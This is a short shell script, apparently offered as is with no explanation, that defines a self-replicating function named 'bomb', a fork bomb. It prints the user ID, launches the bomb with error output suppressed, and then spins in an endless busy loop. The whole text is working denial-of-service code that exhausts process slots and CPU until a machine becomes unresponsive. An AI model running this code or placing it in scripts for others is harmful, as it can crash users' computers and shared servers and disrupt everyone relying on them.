# Doubles until it may not, and goes on trying.
echo "up $UID"
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do :; done
